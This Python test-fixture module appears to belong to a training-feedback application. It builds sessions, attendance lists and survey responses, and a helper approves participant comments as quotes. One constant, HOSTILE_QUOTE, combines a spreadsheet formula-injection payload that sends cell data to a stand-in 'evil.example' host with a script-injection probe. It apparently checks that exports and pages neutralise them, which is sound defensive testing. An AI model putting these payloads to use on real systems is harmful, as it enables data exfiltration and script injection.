"""A small centre whose every report figure is worked out by hand, and approved quotes given through the form.

Plain functions (the factories passed in) so that the browser test builds the same centre as the view tests.
"""

from __future__ import annotations

from datetime import date

from sqlalchemy import select

from feedback.catalogue import operations
from feedback.catalogue.library import HOT_EVALUATION
from feedback.db import db
from feedback.models import Answer, Axis, Department, Modality, QuoteStatus, Role
from feedback.quotes.operations import change_status
from tests.dashboard.conftest import add_responses
from tests.imports.helpers import csv_bytes, load_attendance

E, V, S = Department.ESSONNE, Department.VAL_DE_MARNE, Department.SEINE_ET_MARNE

#: Who came to which session (attendance lists, by name): alice, bob, eve and frank in 2025; alice, bob, carol and
#: dan in 2024.
LISTS = {
    "lang_2024": ["Alice Martin", "Bob Durand"],
    "city_2024": ["alice martin", "Carole Petit", "Dan Roux"],
    "lang_mar": ["Alice Martin", "Bob Durand", "Ève Blanc"],
    "lang_apr": ["ALICE MARTIN"],
    "city_jun": ["Bob Durand", "Frank Noir"],
}
HOSTILE_QUOTE = (
    '=HYPERLINK("http://evil.example/?"&A1) <script>alert(1)</script> des échanges très riches entre collègues'
)
QUOTES = (
    HOSTILE_QUOTE,
    "Des échanges très riches entre collègues du terrain, merci pour la qualité des intervenants.",
    "Échanges très riches entre collègues, une intervenante claire et disponible.",
)


def _named():
    """The « évaluation à chaud » in a version that does not promise anonymity."""
    return operations.create_questionnaire(
        {**HOT_EVALUATION, "family": "evaluation-nominative", "title": "Évaluation nominative", "is_anonymous": False}
    )


def build_centre(make_training, make_session) -> dict:
    """2024: 2 sessions, 30 participations, 3 half-days; 2025: 4 sessions, 57 participations, 6 half-days.

    Distinct participants (lists): 4 in 2024 over 5 attendances, 4 in 2025 over 6 attendances.
    Responses: 2024, 4 satisfied of 5; 2025, language axis 4 of 6, city policy 3 of 3 (too few to show).
    """
    lang = make_training("Droit des étrangers", Axis.LANGUAGE_INTEGRATION, Modality.TRAINING)
    city = make_training("Webinaire QPV", Axis.CITY_POLICY, Modality.WEBINAR)
    sessions = {
        "lang_2024": make_session(lang, start_date=date(2024, 3, 10), department=E, present=10, half_days=2),
        "city_2024": make_session(city, start_date=date(2024, 6, 1), department=V, present=20, half_days=1),
        "city_jan": make_session(city, start_date=date(2025, 1, 15), department=V, present=7, half_days=1),
        "lang_mar": make_session(lang, start_date=date(2025, 3, 10), department=E, present=15, half_days=2),
        # Its questionnaire names its respondents (no promise of anonymity): the disclosure rule leaves the comments
        # of its few responses to staff, so the quotes of `approve_quotes` reach the report.
        "lang_apr": make_session(
            lang, start_date=date(2025, 4, 10), department=S, present=5, half_days=2, questionnaire=_named()
        ),
        "city_jun": make_session(city, start_date=date(2025, 6, 1), department=V, present=30, half_days=1),
    }
    for key, names in LISTS.items():
        load_attendance(csv_bytes([["nom"], *[[name] for name in names]]), "liste.csv", session_id=sessions[key].id)
    add_responses(sessions["lang_2024"], [4, 4, 4, 4, 2])
    add_responses(sessions["lang_mar"], [4, 4, 3, 2, 4, 1], ["association"] * 3 + ["elu"] * 3)
    add_responses(sessions["city_jun"], [4, 4, 4])
    return {"lang": lang, "city": city, **sessions}


def approve_quotes(session, answer_form, make_user, texts=QUOTES, approved: int = 2) -> list[int]:
    """Comments given through the public form (consent ticked), the first `approved` of them approved."""
    staff = make_user(Role.COMMUNICATION)
    ids = []
    for text in texts:
        assert answer_form(session, {"q-overall": "4", "q-liked": text, "consent": "yes"}).status_code == 303
        ids.append(db.session.scalar(select(Answer.id).where(Answer.text == text)))
    for answer_id in ids[:approved]:
        change_status(answer_id, QuoteStatus.SHORTLISTED, staff)
        change_status(answer_id, QuoteStatus.APPROVED, staff)
    db.session.commit()
    return ids
